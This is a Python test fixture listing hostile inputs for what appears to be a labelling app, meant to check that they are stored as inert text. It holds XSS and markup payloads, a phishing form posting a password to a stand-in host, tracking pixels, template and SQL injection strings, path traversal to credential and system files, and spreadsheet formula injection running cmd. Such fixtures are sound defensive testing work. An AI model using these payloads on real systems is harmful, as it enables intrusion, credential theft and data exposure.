"""Texts that somebody might send to harm a rater's browser, a spreadsheet or the server."""

# What would run if it were markup calls this; the page has a trap of that name.
_RUN = "trap(1)"
_AWAY = "https://elsewhere.example/"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_AWAY}x.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x0c>{_RUN}</script\n>",
    f"</script><script>{_RUN}</script>",
    f"</textarea></title></style><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"<template><script>{_RUN}</script></template>",
    f"```html\n<script>{_RUN}</script>\n```",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"| a |\n|---|\n| <script>{_RUN}</script> |",
    f"<think><script>{_RUN}</script></think>",
]

HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='https://ok' onclick={_RUN}>x</a>",
    f'[x](https://ok "onmouseover={_RUN}")',
    '[x](https://ok" onclick="trap\\(1\\))',
    f"<div onpointerrawupdate={_RUN} tabindex=1 accesskey=1>x</div>",
    f"' onmouseover='{_RUN}' x='",
    f'" onfocus="{_RUN}" autofocus x="',
]

FOREIGN_ELEMENTS = [
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><use href='{_AWAY}x.svg#x'/></svg>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<math href='javascript:{_RUN}'>CLICK</math>",
    "<math><annotation-xml encoding='text/html'><p title='</p><img src=x onerror=trap(1)>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table>",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"$$\\text{{<img src=x onerror={_RUN}>}}$$",
    f"\\(\\text{{</mtext></math><script>{_RUN}</script>}}\\)",
    "$$\\style{position:fixed;inset:0;background:red}{x}$$",
    "$$\\def\\a{\\a\\a}\\a$$",
]

OVERLAYS = [
    '<div style="position:fixed;inset:0;z-index:999;background:red">over everything</div>',
    "<style>*{display:none}</style>",
    f"<style>@import '{_AWAY}x.css';</style>",
    f"<link rel=stylesheet href={_AWAY}x.css>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}>",
    f"<form action={_AWAY}><input name=password><button>Sign in again</button></form>",
    f"<iframe src={_AWAY}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_AWAY}></object><embed src={_AWAY}>",
    "<dialog open>Your session has ended</dialog>",
    "</div></div></article></main><h1>escaped</h1>",
    '<p class="rl-notice" role="alert" id="rl-left-title" data-do="left">x</p>',
    "<!-- comment -->",
    "<plaintext>",
    "$$a \\hspace{-900em} \\rule{400em}{400em}$$",
]

LINKS = [
    f"![pixel]({_AWAY}pixel.png)",
    f"[![pixel]({_AWAY}pixel.png)]({_AWAY})",
    f"![pixel][p]\n\n[p]: {_AWAY}pixel.png",
    f"<img src={_AWAY}pixel.png srcset={_AWAY}2x.png>",
    f"<picture><source srcset={_AWAY}p.png><img></picture>",
    f"[x](javascript:{_RUN})",
    "[x](JaVaScRiPt&colon;trap(1))",
    "[x](java\tscript:trap(1))",
    "[x](data:text/html,<script>trap(1)</script>)",
    f"<javascript:{_RUN}>",
    "[x](vbscript:x)",
    "[x](\\\\elsewhere.example\\share)",
    f"[x]: javascript:{_RUN}\n\n[x]",
]

TEMPLATES = [
    "${trap(1)} `${trap(1)}`",
    "{{value}} {{{value}}} {{constructor.constructor('trap(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "#{trap(1)} <%= trap(1) %> ${{<%[%'\"}}%\\.",
    "{0.__class__} %(name)s %s %n $HOME $(trap) `trap`",
    "{@html '<img src=x onerror=trap(1)>'}",
    '{"__type__": "update", "visible": false}',
    "__proto__",
    "'; DROP TABLE vote; --",
    '\\"); trap(1); ("',
    "\\u003cscript\\u003etrap(1)\\u003c/script\\u003e",
    "\u2028trap(1)\u2029",
]

CHARACTERS = [
    "\u202egnp.exe\u202c and \u2067right\u2069 to left",
    "\u202e\u202d\u2066\u2067 never closed",
    "مرحبا <b>بالعالم</b> \u200f123",
    "zero\u200bwidth\u200c\u200d\u2060\ufeffjoined",
    "Z" + "\u0300\u0301\u0302\u0489" * 60 + "algo",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x08\x08 \x7f",
    "line\r\nends\rof\nall\u0085kinds\x0b\x0c",
    "\U000e0041\U000e0042 tags \U0001f469\u200d\U0001f4bb \ufffe \uffff",
    "Cafe\u0301 is not Caf\u00e9, \u212b is not \u00c5",
]

FILES_AND_SHEETS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
    "name\r\nSet-Cookie: rlhf_label_session=x",
    '=HYPERLINK("https://elsewhere.example/"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3\t=1+1",
]

MARKUP = [
    *(SCRIPTS + HANDLERS + FOREIGN_ELEMENTS + OVERLAYS + LINKS + TEMPLATES + CHARACTERS),
    *FILES_AND_SHEETS,
]
"""All that may be stored: it is text, and stays exactly that text."""

LONG = ("long \u202e<b>$$x$$ " * 14_000)[:200_000]
"""As long as a message or response may be."""

REFUSED = {
    "NUL": "before\0after",
    "a lone high surrogate": "before\ud800after",
    "a lone low surrogate": "before\udfffafter",
    "a pair in the wrong order": "\udc00\ud800",
    "a text that is too long": LONG + "x",
}
"""What no text field takes."""
